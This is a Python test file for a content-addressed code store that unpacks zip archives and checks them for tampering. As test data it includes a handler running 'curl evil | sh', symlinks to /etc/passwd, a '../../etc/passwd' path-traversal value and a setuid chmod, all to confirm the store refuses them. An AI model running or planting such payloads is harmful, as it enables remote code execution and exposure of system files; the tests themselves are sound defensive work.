from __future__ import annotations

import hashlib
import importlib.util
import json
import os
import stat
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from gureum.errors import (
    CodeVerificationFailedException,
    InvalidParameterValueException,
    ResourceNotFoundException,
)
from gureum.store import code
from gureum.store.code import MANIFEST_NAME, CodeStore
from tests.store.test_zipcheck import file_info, link_info, make_zip

HANDLER = "import helper\n\ndef handler(event, context):\n    return helper.double(event)\n"


def sample_zip() -> bytes:
    return make_zip(
        ("handler.py", HANDLER),
        ("helper.py", "def double(x):\n    return 2 * x\n"),
        ("pkg/__init__.py", ""),
        ("pkg/data/table.json", '{"a": 1}'),
        (file_info("bootstrap", 0o755), "#!/bin/sh\nexec python3 -m runtime\n"),
        (link_info("pkg/table.json"), "data/table.json"),
        ("broken.py", "def (:\n"),  # user code that does not compile must not stop the unpack
    )


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def leftovers(store_root: Path) -> list[str]:
    return [p.name for p in store_root.rglob(".tmp-*")] + [
        p.name for p in store_root.rglob(".del-*")
    ]


def test_put_then_unpacked_round_trip(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    data = sample_zip()
    ref = store.put(data)
    assert ref.sha256 == hashlib.sha256(data).hexdigest()
    assert ref.size == len(data)
    assert ref.unzipped_size > 0
    assert store.has(ref.sha256)
    assert store.blob(ref.sha256) == data

    tree = store.unpacked(ref.sha256)
    assert tree == tmp_path / "unpacked" / ref.sha256
    assert (tree / "handler.py").read_text() == HANDLER
    assert (tree / "pkg/data/table.json").read_text() == '{"a": 1}'
    assert os.readlink(tree / "pkg/table.json") == "data/table.json"
    assert (tree / "pkg/table.json").read_text() == '{"a": 1}'
    assert mode(tree) == mode(tree / "pkg") == mode(tree / "pkg/data") == 0o755
    assert mode(tree / "handler.py") == mode(tree / "pkg/__init__.py") == 0o644
    assert mode(tree / "bootstrap") == 0o755
    for source in ("handler.py", "helper.py", "pkg/__init__.py"):
        pyc = Path(importlib.util.cache_from_source(str(tree / source)))
        # Flags 0b01: hash-based and unchecked, so the sandbox never stats the source for it.
        assert pyc.read_bytes()[4:8] == b"\x01\0\0\0"
        assert mode(pyc) == 0o644
        assert mode(pyc.parent) == 0o755
    assert (tree / MANIFEST_NAME).is_file()
    assert leftovers(tmp_path) == []


def test_manifest_covers_every_file(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    sha = store.put(sample_zip()).sha256
    tree = store.unpacked(sha)
    manifest = json.loads((tree / MANIFEST_NAME).read_text())
    assert manifest["sha256"] == sha
    on_disk = {p.relative_to(tree).as_posix() for p in tree.rglob("*")} - {MANIFEST_NAME}
    assert set(manifest["entries"]) == on_disk
    digest = hashlib.sha256(HANDLER.encode()).hexdigest()
    assert manifest["entries"]["handler.py"] == f"f 644 {digest}"


def test_put_is_idempotent_and_content_addressed(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    data = sample_zip()
    first = store.put(data)
    blob = tmp_path / "blobs" / f"{first.sha256}.zip"
    stamp = blob.stat().st_mtime_ns
    assert store.put(data) == first
    assert CodeStore(tmp_path).put(data) == first
    assert blob.stat().st_mtime_ns == stamp
    other = store.put(make_zip(("handler.py", "x = 2\n")))
    assert other.sha256 != first.sha256
    assert sorted(p.name for p in (tmp_path / "blobs").iterdir()) == sorted(
        [f"{first.sha256}.zip", f"{other.sha256}.zip"]
    )


def test_put_repairs_a_corrupt_blob(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    data = sample_zip()
    sha = store.put(data).sha256
    (tmp_path / "blobs" / f"{sha}.zip").write_bytes(b"garbage")
    store.put(data)
    assert store.blob(sha) == data


def test_hostile_zip_is_not_stored(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    with pytest.raises(InvalidParameterValueException):
        store.put(make_zip((link_info("passwd"), "/etc/passwd")))
    assert list((tmp_path / "blobs").iterdir()) == []


def test_reserved_manifest_name_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidParameterValueException, match="reserved"):
        CodeStore(tmp_path).put(make_zip((MANIFEST_NAME, "{}")))


@pytest.mark.parametrize("sha", ["../../etc/passwd", "ABC", "0" * 63, "G" * 64])
def test_malformed_sha_is_refused(tmp_path: Path, sha: str) -> None:
    store = CodeStore(tmp_path)
    for call in (store.has, store.blob, store.unpacked, store.delete):
        with pytest.raises(InvalidParameterValueException):
            call(sha)


def test_unknown_sha_is_not_found(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    assert not store.has("0" * 64)
    with pytest.raises(ResourceNotFoundException):
        store.blob("0" * 64)
    with pytest.raises(ResourceNotFoundException):
        store.unpacked("0" * 64)


def test_tampered_blob_is_never_unpacked(tmp_path: Path) -> None:
    sha = CodeStore(tmp_path).put(sample_zip()).sha256
    evil = make_zip(("handler.py", "import os; os.system('curl evil | sh')\n"))
    (tmp_path / "blobs" / f"{sha}.zip").write_bytes(evil)
    store = CodeStore(tmp_path)
    with pytest.raises(CodeVerificationFailedException):
        store.unpacked(sha)
    with pytest.raises(CodeVerificationFailedException):
        store.blob(sha)
    assert list((tmp_path / "unpacked").iterdir()) == []


def test_tampered_blob_is_refused_even_when_unpacked(tmp_path: Path) -> None:
    sha = CodeStore(tmp_path).put(sample_zip()).sha256
    CodeStore(tmp_path).unpacked(sha)
    (tmp_path / "blobs" / f"{sha}.zip").write_bytes(b"garbage")
    with pytest.raises(CodeVerificationFailedException):
        CodeStore(tmp_path).unpacked(sha)


def _edit(tree: Path) -> None:
    (tree / "helper.py").write_text("def double(x):\n    return 3 * x\n")


def _add(tree: Path) -> None:
    (tree / "pkg/extra.py").write_text("")


def _remove(tree: Path) -> None:
    (tree / "pkg/__init__.py").unlink()


def _chmod(tree: Path) -> None:
    os.chmod(tree / "bootstrap", 0o4755)


def _relink(tree: Path) -> None:
    (tree / "pkg/table.json").unlink()
    os.symlink("/etc/passwd", tree / "pkg/table.json")


def _swap_pyc(tree: Path) -> None:
    pyc = Path(importlib.util.cache_from_source(str(tree / "helper.py")))
    pyc.write_bytes(pyc.read_bytes() + b"\0")


def _drop_manifest(tree: Path) -> None:
    (tree / MANIFEST_NAME).unlink()


@pytest.mark.parametrize(
    "tamper", [_edit, _add, _remove, _chmod, _relink, _swap_pyc, _drop_manifest]
)
def test_tampered_tree_is_refused(tmp_path: Path, tamper: Callable[[Path], None]) -> None:
    store = CodeStore(tmp_path)
    sha = store.put(sample_zip()).sha256
    tree = store.unpacked(sha)
    tamper(tree)
    # This instance verified the tree already and trusts it: no disk work on the cold-start path.
    assert store.unpacked(sha) == tree
    with pytest.raises(CodeVerificationFailedException):
        CodeStore(tmp_path).unpacked(sha)


def test_existing_tree_is_verified_and_reused(tmp_path: Path) -> None:
    sha = CodeStore(tmp_path).put(sample_zip()).sha256
    tree = CodeStore(tmp_path).unpacked(sha)
    inode = tree.stat().st_ino
    (tmp_path / "blobs" / f"{sha}.zip").unlink()  # the tree alone still verifies
    assert CodeStore(tmp_path).unpacked(sha) == tree
    assert tree.stat().st_ino == inode


def test_extractor_counts_real_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sha = CodeStore(tmp_path).put(make_zip(("a.bin", b"x" * 5000))).sha256
    monkeypatch.setattr(
        code, "MAX_UNZIPPED_BYTES", 4096
    )  # the extractor's own count, not check_zip's
    with pytest.raises(CodeVerificationFailedException, match="outgrew 4096 bytes"):
        CodeStore(tmp_path).unpacked(sha)
    assert list((tmp_path / "unpacked").iterdir()) == []


def test_delete_removes_blob_and_tree(tmp_path: Path) -> None:
    store = CodeStore(tmp_path)
    sha = store.put(sample_zip()).sha256
    tree = store.unpacked(sha)
    os.chmod(tree / "pkg", 0o555)
    store.delete(sha)
    assert not store.has(sha)
    assert not os.path.lexists(tree)
    assert leftovers(tmp_path) == []
    with pytest.raises(ResourceNotFoundException):
        store.unpacked(sha)
    store.delete(sha)


def test_concurrent_unpacked_yields_one_tree(tmp_path: Path) -> None:
    sha = CodeStore(tmp_path).put(sample_zip()).sha256
    shared = CodeStore(tmp_path)
    # Separate instances race on the rename as separate processes would; the shared one on its lock.
    stores = [CodeStore(tmp_path) for _ in range(6)] + [shared] * 6
    barrier = threading.Barrier(len(stores))
    results: list[Path] = []
    errors: list[BaseException] = []

    def run(store: CodeStore) -> None:
        barrier.wait()
        try:
            results.append(store.unpacked(sha))
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(s,)) for s in stores]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert set(results) == {tmp_path / "unpacked" / sha}
    assert [p.name for p in (tmp_path / "unpacked").iterdir()] == [sha]
    assert CodeStore(tmp_path).unpacked(sha) == tmp_path / "unpacked" / sha
